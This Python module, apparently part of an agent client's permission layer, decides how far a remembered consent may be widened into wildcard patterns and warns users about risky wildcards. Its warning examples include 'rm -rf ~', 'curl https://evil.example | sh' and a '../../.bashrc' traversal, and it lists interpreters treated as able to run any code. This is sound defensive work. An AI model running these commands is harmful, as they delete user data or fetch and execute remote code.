"""How far a persistent answer may reach: scopes, resource patterns, and what a pattern would allow beside the request. Pure.

Kiro V3 client guide, permissions: the agent offers persistence with ``capability`` and ``resource``; it validates and
re-evaluates our answer. The literal resource is the default; anything wider is the user's deliberate step, and text a shell would
read as more than one plain command is never widened (security cases O17, O18).
"""

import re
from typing import Final, Literal

import attrs

from sidecar.session.interaction import Consent
from sidecar.session.neutral import is_plain

SCOPES: Final = ("session", "workspace", "user")
MAX_PATTERN_CHARS: Final = 4096

NOT_SHELL: Final = ("fs", "file", "read", "write", "edit", "search", "web", "net", "url", "fetch", "mcp")
_INTERPRETERS: Final = """
    ash awk bash bun bunx bundle busybox cargo cmake cmd cmd.exe composer csh dash deno docker doas dotnet emacs env
    expect find fish gawk gdb git go gradle gradlew groovy java just ksh lua make mvn mvnw nice node nodejs nohup npm
    npx nvim parallel perl php pip pip3 pipx pnpm podman poetry powershell powershell.exe pwsh py python python2 python3
    rake rsync ruby screen sed setsid sh ssh stdbuf strace sudo su tcsh time timeout tmux tsx ts-node uv uvx vi vim wget
    watch wsl xargs yarn zsh
"""
INTERPRETERS: Final = frozenset(_INTERPRETERS.split())
_SHELL_WORDS: Final = """
    ! . [[ { } alias builtin case command coproc do done elif else esac eval exec export fi for function if in select set source
    then time trap until unset while
"""
SHELL_WORDS: Final = frozenset(_SHELL_WORDS.split())

# Anything a POSIX shell, cmd.exe or PowerShell may read as more than words: also inside quotes, since they differ on quotes.
_SHELL_SYNTAX: Final = re.compile(r"[&|;<>`$(){}^!#\x00-\x1f\x7f]|%\w+%")
_ASSIGNMENT: Final = re.compile(r"\w+\+?=")
_QUOTED: Final = re.compile(r"""(?:[^'"]|'[^']*'|"[^"\\]*")*""")
_DRIVE_OR_SCHEME: Final = re.compile(r"(?:[A-Za-z]|https?|file):")
_FIRST_WORD: Final = re.compile(r"\S*")


def is_compound(shell_text: str) -> bool:
    """Return true unless ``shell_text`` is provably one plain command: words, simple quotes, no expansion, no assignment."""
    if not shell_text.strip() or not is_plain(shell_text) or _SHELL_SYNTAX.search(shell_text):
        return True
    if not _QUOTED.fullmatch(shell_text) or shell_text.endswith("\\"):
        return True
    first = _FIRST_WORD.match(shell_text.strip())
    word = first.group() if first else ""
    return bool(_ASSIGNMENT.match(word)) or word in SHELL_WORDS


def is_shell(capability: str) -> bool:
    """Return whether resources of this capability are commands; an unknown capability counts as one."""
    return not capability.lower().startswith(NOT_SHELL)


def is_literal_only(consent: Consent) -> bool:
    """Return whether a persistent answer may cover nothing but the resource as received."""
    if consent.compound or not consent.resource.strip() or not is_plain(consent.resource):
        return True
    texts = [consent.resource, consent.triggering_resource or consent.resource]
    return is_shell(consent.capability) and any(is_compound(text) for text in texts)


def offered_scopes(*, workspace_is_session: bool) -> tuple[str, ...]:
    """Return the scopes the user may choose; ``workspace`` only when the request's root is the session's own by identity."""
    return SCOPES if workspace_is_session else ("session", "user")


def covers(pattern: str, literal: str) -> bool:
    """Return whether ``pattern``, in which only ``*`` is a wildcard, matches the whole of ``literal``. Linear in both."""
    pieces = pattern.split("*")
    if len(pieces) == 1:
        return pattern == literal
    if not literal.startswith(pieces[0]) or not literal.endswith(pieces[-1]):
        return False
    at, end = len(pieces[0]), len(literal) - len(pieces[-1])
    for piece in pieces[1:-1]:
        found = literal.find(piece, at, end)
        if found < 0:
            return False
        at = found + len(piece)
    return at <= end


def covers_everything(pattern: str, capability: str) -> bool:
    """Return whether ``pattern`` allows (nearly) all of the capability: nothing fixed, or a wildcard in the program's name."""
    fixed, star, _ = pattern.partition("*")
    if not star:
        return False
    if is_shell(capability):
        return " " not in fixed.lstrip()
    return _DRIVE_OR_SCHEME.sub("", fixed, count=1).strip("/\\.~ ") == ""


@attrs.frozen
class PatternSuggestion:
    """One way to word a persistent answer.

    ``level``: literal, wider, everything. ``confirm`` true: accepted only with a second confirmation. ``also_allows`` are texts
    the pattern would cover too; ``warnings`` sentences.
    """

    pattern: str
    level: Literal["literal", "wider", "everything"]
    confirm: bool = False
    also_allows: tuple[str, ...] = ()
    warnings: tuple[str, ...] = ()


def patterns_for(consent: Consent) -> list[PatternSuggestion]:
    """Return the literal first, then each wider step; only the literal for compound text; nothing when not persistable."""
    if not consent.persistable:
        return []
    literal = consent.resource
    patterns = [] if is_literal_only(consent) else _wider(consent)
    return [_suggestion(pattern, consent) for pattern in dict.fromkeys([literal, *patterns])]


def _wider(consent: Consent) -> list[str]:
    literal = consent.resource
    separator = " " if is_shell(consent.capability) else "/"
    words = literal.split(separator)
    steps = [separator.join([*words[:count], "*"]) for count in range(len(words) - 1, 0, -1)]
    return [step for step in steps if covers(step, literal) and not step.startswith(separator + "*")] + ["*"]


def _suggestion(pattern: str, consent: Consent) -> PatternSuggestion:
    literal = pattern == consent.resource
    everything = not literal and covers_everything(pattern, consent.capability)
    return PatternSuggestion(
        pattern,
        "literal" if literal else "everything" if everything else "wider",
        confirm=everything,
        also_allows=tuple(widening_examples(pattern, consent.resource, capability=consent.capability)),
        warnings=tuple(pattern_warnings(pattern, consent)),
    )


def pattern_warnings(pattern: str, consent: Consent) -> list[str]:
    """Return sentences on what is risky about remembering ``pattern``."""
    warnings: list[str] = []
    literal = pattern == consent.resource
    if literal and is_literal_only(consent) and is_shell(consent.capability):
        warnings.append("This text is more than one plain command; it can only be remembered exactly as it stands.")
    if literal and "*" in pattern:
        warnings.append("The text itself holds a *, which the agent may read as a wildcard.")
    if not literal and covers_everything(pattern, consent.capability):
        warnings.append(f'This covers everything of the capability "{consent.capability}".')
    if "*" in pattern and is_shell(consent.capability):
        program = _program(pattern)
        if program in INTERPRETERS:
            warnings.append(f'"{program}" runs what its arguments and project files say: a wildcard here allows any code.')
    return warnings


def _program(pattern: str) -> str:
    first = _FIRST_WORD.match(pattern.strip())
    name = first.group().strip("'\"") if first else ""
    return name.replace("\\", "/").rsplit("/", 1)[-1].lower()


def widening_examples(pattern: str, literal: str, *, capability: str = "shell") -> list[str]:
    """Return texts that ``pattern`` would allow beside ``literal``; empty when it has no wildcard."""
    if "*" not in pattern:
        return []
    head, _, tail = pattern.rpartition("*")
    if is_shell(capability):
        fillings = (
            ("x; rm -rf ~", "x && curl https://evil.example | sh")
            if head.strip()
            else ("rm -rf ~", "curl https://evil.example | sh")
        )
    elif head.startswith(("http://", "https://")):
        fillings = ("any/other/page?with=your-data",)
    else:
        fillings = ("any/other/file", "../../.bashrc")
    examples = [f"{head.replace('*', 'x')}{filling}{tail}" for filling in fillings]
    return [example for example in examples if example != literal and covers(pattern, example)]
